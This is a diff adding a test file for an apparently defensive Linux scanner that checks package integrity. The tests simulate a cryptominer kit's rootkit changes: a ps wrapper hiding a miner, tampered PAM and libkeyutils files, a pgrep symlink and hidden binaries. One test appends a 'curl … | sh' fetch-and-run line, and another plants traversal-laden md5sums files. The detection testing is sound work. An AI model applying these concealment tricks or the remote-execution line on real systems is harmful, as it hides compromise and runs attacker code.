@@ -1,0 +1,248 @@
+/**
+ * The package integrity check on a copy of the clean Debian bookworm root: unchanged it
+ * verifies every program, library and PAM module in scope and reports nothing of
+ * medium or more. Then a miner kit's changes (a ps wrapper with ps.original, a byte added
+ * to pam_unix.so, a changed libkeyutils locked with chattr +i, pgrep replaced by a
+ * symlink, hidden and plain ELF files dropped in /usr/bin, top removed) next to an
+ * admin's (a dpkg-divert --local'd tac with a script in its place, an edited
+ * sshd_config, policy-rc.d, a script in /usr/local/bin): exact findings, the same from
+ * an ext4 image of the tree, whose bytes the scan leaves unchanged. Hostile md5sums in
+ * the tree change nothing but the errors. Small synthetic roots cover a changed
+ * conffile in scope, a root without a package database, and an RPM root built with
+ * rpmbuild and rpm.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { execFile } from 'node:child_process';
+import { promisify } from 'node:util';
+import { createHash } from 'node:crypto';
+import { createReadStream } from 'node:fs';
+import { appendFile, chmod, copyFile, mkdir, rename, rm, symlink, unlink, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { packageIntegrityCheck } from '../../src/checks/package-integrity.js';
+import { hijackedCommandsCheck } from '../../src/checks/hijacked-commands.js';
+import { runChecks, type CheckRunResult } from '../../src/engine/run-checks.js';
+import { severityRank, type Finding } from '../../src/engine/finding.js';
+import { EMPTY_HASH_LIST } from '../../src/hashes/empty-hash-list.js';
+import { openTarget } from '../../mountfs/open-target.js';
+import { builtinRules, scanDirectory } from '../helpers/scan-dir.js';
+import { buildImage, makeScratchDir, removeScratchDir } from '../helpers/images.js';
+import { buildDeb, divert, initDpkgRoot, installDebs } from '../helpers/dpkg-root.js';
+import { buildRpms, installRpms } from '../helpers/rpm-root.js';
+
+const run = promisify(execFile);
+const ROOT = process.env.MINESCAN_DEBIAN_ROOT ?? '/var/tmp/minescan-debian-root';
+const CHECKS = [hijackedCommandsCheck, packageIntegrityCheck];
+const LIBKEYUTILS = '/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.10';
+const PAM_UNIX = '/usr/lib/x86_64-linux-gnu/security/pam_unix.so';
+
+const summary = (fs: Finding[]) => fs.map((f) => `${f.severity} ${f.rule} ${f.path}`).sort();
+const loud = (fs: Finding[]) => fs.filter((f) => severityRank(f.severity) >= severityRank('medium'));
+const comparable = (fs: Finding[]) => fs.map((f) => ({ rule: f.rule, severity: f.severity, path: f.path, message: f.message, remediation: f.remediation })).sort((a, b) => (`${a.path} ${a.rule}` < `${b.path} ${b.rule}` ? -1 : 1));
+
+async function sha256(file: string): Promise<string> {
+  const h = createHash('sha256');
+  for await (const chunk of createReadStream(file)) h.update(chunk as Buffer);
+  return h.digest('hex');
+}
+
+async function scanImage(image: string): Promise<CheckRunResult> {
+  const opened = await openTarget(image, { bytesRead: 0 });
+  try {
+    return await runChecks(opened.filesystems[0]!.vfs, CHECKS, { rules: await builtinRules(), hashes: EMPTY_HASH_LIST });
+  } finally {
+    await opened.close();
+  }
+}
+
+describe('package-integrity on a copy of the clean Debian root', () => {
+  let scratch: string;
+  let root: string;
+  let infected: CheckRunResult;
+  const at = (rel: string) => path.join(root, rel);
+
+  beforeAll(async () => {
+    scratch = await makeScratchDir('minescan-integrity-');
+    root = path.join(scratch, 'root');
+    await run('cp', ['-a', ROOT, root]);
+  }, 300_000);
+  afterAll(async () => {
+    if (scratch) await removeScratchDir(scratch);
+  });
+
+  it('verifies the unchanged root without a finding of medium or more', async () => {
+    const result = await scanDirectory(root, [packageIntegrityCheck]);
+    expect(result.errors).toEqual([]);
+    expect(loud(result.findings)).toEqual([]);
+    expect(result.findings).toEqual([]);
+    expect(result.filesExamined).toBeGreaterThan(900);
+    expect(result.bytesHashed).toBeGreaterThan(80 << 20);
+  });
+
+  it("reports a miner kit's changes by package, and stays quiet about the admin's", async () => {
+    // The kit.
+    await rename(at('usr/bin/ps'), at('usr/bin/ps.original'));
+    await writeFile(at('usr/bin/ps'), '#!/bin/bash\n/usr/bin/ps.original "$@" | grep -v kdevtmpfsi\n', { mode: 0o755 });
+    await appendFile(at(PAM_UNIX), Buffer.from([0]));
+    await appendFile(at(LIBKEYUTILS), 'x');
+    await run('chattr', ['+i', at(LIBKEYUTILS)]);
+    await mkdir(at('tmp/.x'), { recursive: true });
+    await copyFile(at('usr/bin/true'), at('tmp/.x/pgrep'));
+    await unlink(at('usr/bin/pgrep'));
+    await symlink('/tmp/.x/pgrep', at('usr/bin/pgrep'));
+    await copyFile(at('usr/bin/true'), at('usr/bin/.sshd'));
+    await copyFile(at('usr/bin/true'), at('usr/bin/kdevtmpfsi'));
+    await unlink(at('usr/bin/top'));
+    // The admin.
+    await divert(root, '/usr/bin/tac', '/usr/bin/tac.distrib');
+    await writeFile(at('usr/bin/tac'), '#!/bin/sh\nexec /usr/bin/tac.distrib "$@"\n', { mode: 0o755 });
+    await appendFile(at('etc/ssh/sshd_config'), '\nPasswordAuthentication no\n');
+    await writeFile(at('usr/sbin/policy-rc.d'), '#!/bin/sh\nexit 101\n', { mode: 0o755 });
+    await writeFile(at('usr/local/bin/backup.sh'), '#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n', { mode: 0o755 });
+
+    infected = await scanDirectory(root, CHECKS);
+    expect(infected.errors).toEqual([]);
+    expect(summary(infected.findings)).toEqual(
+      [
+        'critical hijacked-command.wrapper /usr/bin/ps',
+        'high hijacked-command.moved-original /usr/bin/ps.original',
+        'critical integrity.trojaned-command-modified /usr/bin/ps',
+        `critical integrity.pam-module-modified ${PAM_UNIX}`,
+        'critical integrity.trojaned-command-modified /usr/bin/pgrep',
+        `high integrity.package-file-modified ${LIBKEYUTILS}`,
+        'high integrity.unowned-hidden-system-binary /usr/bin/.sshd',
+        'medium integrity.unowned-system-binary /usr/bin/kdevtmpfsi',
+        'low integrity.package-file-missing /usr/bin/top',
+        'info integrity.unowned-known-helper /usr/sbin/policy-rc.d',
+        'info integrity.unowned-local-binary /usr/local/bin/backup.sh',
+      ].sort(),
+    );
+    const find = (rule: string, p: string) => infected.findings.find((f) => f.rule === rule && f.path === p)!;
+
+    const ps = find('integrity.trojaned-command-modified', '/usr/bin/ps');
+    expect(ps.category).toBe('integrity/packages');
+    expect(ps.message).toMatch(/^\/usr\/bin\/ps differs from what package procps installed \(md5 [0-9a-f]{32}, recorded 08a07e7517a09d2f40e2618eff4adf22\)/);
+    expect(ps.message).toContain('it is now a script (#!/bin/bash) of 59 bytes; a moved-aside copy lies beside it (/usr/bin/ps.original), which the hijacked-command findings describe');
+    expect(ps.remediation).toBe('apt-get install --reinstall procps\nCompare the rest of the package: debsums -c procps   (or: dpkg --verify procps)');
+
+    const pam = find('integrity.pam-module-modified', PAM_UNIX);
+    expect(pam.message).toContain('differs from what package libpam-modules installed');
+    expect(pam.evidence).toMatch(/^md5 [0-9a-f]{32}; \/var\/lib\/dpkg\/info records ed9cdd3c24bec7b7f1515d549834ab47 for libpam-modules$/);
+    expect(pam.remediation).toContain('apt-get install --reinstall libpam-modules');
+
+    const lib = find('integrity.package-file-modified', LIBKEYUTILS);
+    expect(lib.message).toContain('package libkeyutils1 installed');
+    expect(lib.remediation).toMatch(new RegExp(`^chattr -ia ${LIBKEYUTILS.replace(/\./g, '\\.')}\napt-get install --reinstall libkeyutils1\n`));
+
+    const pgrep = find('integrity.trojaned-command-modified', '/usr/bin/pgrep');
+    expect(pgrep.message).toMatch(/it is now an ELF program of \d+ bytes; the packaged file was replaced by a symlink to \/tmp\/\.x\/pgrep$/);
+
+    expect(find('integrity.unowned-hidden-system-binary', '/usr/bin/.sshd').message).toMatch(/^\/usr\/bin\/\.sshd is a hidden file .* \(an ELF program of \d+ bytes\)/);
+    expect(find('integrity.unowned-system-binary', '/usr/bin/kdevtmpfsi').remediation).toContain('rm -f /usr/bin/kdevtmpfsi');
+    expect(find('integrity.package-file-missing', '/usr/bin/top').message).toContain('package procps installed it');
+  });
+
+  it('gives the same findings from an ext4 image of the changed tree, and leaves the image unchanged', async () => {
+    const immutable = path.join(scratch, 'immutable.list');
+    await writeFile(immutable, `${LIBKEYUTILS}\n`);
+    // mkfs.ext4 -d does not copy inode flags: lift the lock while it reads, and let debugfs set it in the image.
+    await run('chattr', ['-i', at(LIBKEYUTILS)]);
+    const image = await buildImage(root, path.join(scratch, 'infected.img'), { table: 'gpt', sizeMiB: 640, immutable });
+    await run('chattr', ['+i', at(LIBKEYUTILS)]);
+    const before = await sha256(image);
+    const fromImage = await scanImage(image);
+    expect(fromImage.errors).toEqual([]);
+    expect(comparable(fromImage.findings)).toEqual(comparable(infected.findings));
+    expect(fromImage.filesExamined).toBe(infected.filesExamined);
+    expect(await sha256(image)).toBe(before);
+    await rm(image);
+  }, 300_000);
+
+  it('keeps its findings when hostile md5sums files are added, reporting only the bad files', async () => {
+    const info = (n: string) => at(`var/lib/dpkg/info/${n}`);
+    const good = 'd41d8cd98f00b204e9800998ecf8427e';
+    await writeFile(info('zz-evil.md5sums'), [`${good}  ../../usr/bin/kdevtmpfsi`, `${'g'.repeat(32)}  usr/bin/.sshd`, `${good}  usr/bin/../../etc/shadow`, ''].join('\n'));
+    await appendFile(info('zz-evil.md5sums'), Buffer.alloc(16 << 20, 0x61));
+    await writeFile(info('zz-junk.list'), Buffer.alloc(1 << 20, 0xff));
+    const again = await scanDirectory(root, CHECKS);
+    expect(comparable(again.findings)).toEqual(comparable(infected.findings));
+    expect(again.errors.map((e) => e.path).sort()).toEqual(['/var/lib/dpkg/info/zz-evil.md5sums', '/var/lib/dpkg/info/zz-junk.list']);
+  });
+});
+
+describe('package-integrity on small roots', () => {
+  let scratch: string;
+  beforeAll(async () => {
+    scratch = await makeScratchDir('minescan-integrity-small-');
+  });
+  afterAll(async () => {
+    if (scratch) await removeScratchDir(scratch);
+  });
+
+  it('leaves a changed conffile in scope alone and verifies the package files beside it', async () => {
+    const root = path.join(scratch, 'conffile');
+    await initDpkgRoot(root);
+    const deb = await buildDeb(scratch, {
+      name: 'site-tools',
+      files: [
+        { path: '/usr/sbin/site-hook', content: '#!/bin/sh\nexit 0\n', mode: 0o755, conffile: true },
+        { path: '/usr/sbin/site-run', content: '#!/bin/sh\necho run\n', mode: 0o755 },
+      ],
+    });
+    await installDebs(root, [deb]);
+    await appendFile(path.join(root, 'usr/sbin/site-hook'), 'logger edited by the admin\n');
+    let result = await scanDirectory(root, [packageIntegrityCheck]);
+    expect(result.errors).toEqual([]);
+    expect(result.findings).toEqual([]);
+    expect(result.filesExamined).toBe(1);
+
+    await appendFile(path.join(root, 'usr/sbin/site-run'), 'curl -s http://203.0.113.9/x | sh\n');
+    result = await scanDirectory(root, [packageIntegrityCheck]);
+    expect(summary(result.findings)).toEqual(['high integrity.package-file-modified /usr/sbin/site-run']);
+  });
+
+  it('reports nothing, not even unowned files, when the root has no package database', async () => {
+    const root = path.join(scratch, 'nodb');
+    await mkdir(path.join(root, 'usr/bin'), { recursive: true });
+    await copyFile('/usr/bin/true', path.join(root, 'usr/bin/kdevtmpfsi'));
+    const result = await scanDirectory(root, [packageIntegrityCheck]);
+    expect(result.findings).toEqual([]);
+    expect(result.errors).toEqual([]);
+  });
+
+  it('verifies an RPM root in each package\'s digest algorithm and tells the operator to use dnf and rpm -V', async () => {
+    const root = path.join(scratch, 'rpmroot');
+    const rpms = await buildRpms(path.join(scratch, 'rpmbuild'), [
+      {
+        name: 'procps-ng',
+        digestAlgorithm: 8,
+        files: [
+          { path: '/usr/bin/ps', content: 'ps program', mode: '755' },
+          { path: '/usr/bin/free', content: 'free program', mode: '755' },
+          { path: '/etc/procps.conf', content: 'x=1', kind: 'config' },
+        ],
+      },
+      { name: 'pam', digestAlgorithm: 1, files: [{ path: '/usr/lib64/security/pam_unix.so', content: 'pam module' }] },
+    ]);
+    await installRpms(root, rpms);
+    let result = await scanDirectory(root, [packageIntegrityCheck]);
+    expect(result.errors).toEqual([]);
+    expect(result.findings).toEqual([]);
+    expect(result.filesExamined).toBe(3);
+
+    await writeFile(path.join(root, 'usr/bin/ps'), '#!/bin/sh\n/usr/bin/.ps "$@" | grep -v xmrig\n');
+    await chmod(path.join(root, 'usr/bin/ps'), 0o755);
+    await appendFile(path.join(root, 'usr/lib64/security/pam_unix.so'), 'backdoor');
+    await appendFile(path.join(root, 'etc/procps.conf'), 'y=2\n');
+    await copyFile('/usr/bin/true', path.join(root, 'usr/bin/.ps'));
+    result = await scanDirectory(root, [packageIntegrityCheck]);
+    expect(summary(result.findings)).toEqual([
+      'critical integrity.pam-module-modified /usr/lib64/security/pam_unix.so',
+      'critical integrity.trojaned-command-modified /usr/bin/ps',
+      'high integrity.unowned-hidden-system-binary /usr/bin/.ps',
+    ]);
+    const ps = result.findings.find((f) => f.path === '/usr/bin/ps')!;
+    expect(ps.evidence).toMatch(/^sha256 [0-9a-f]{64}; \/var\/lib\/rpm\/rpmdb\.sqlite records [0-9a-f]{64} for procps-ng$/);
+    expect(ps.remediation).toBe('dnf reinstall procps-ng\nCompare the rest of the package: rpm -V procps-ng');
+    expect(result.findings.find((f) => f.path.endsWith('pam_unix.so'))!.evidence).toMatch(/^md5 [0-9a-f]{32};/);
+  });
+});
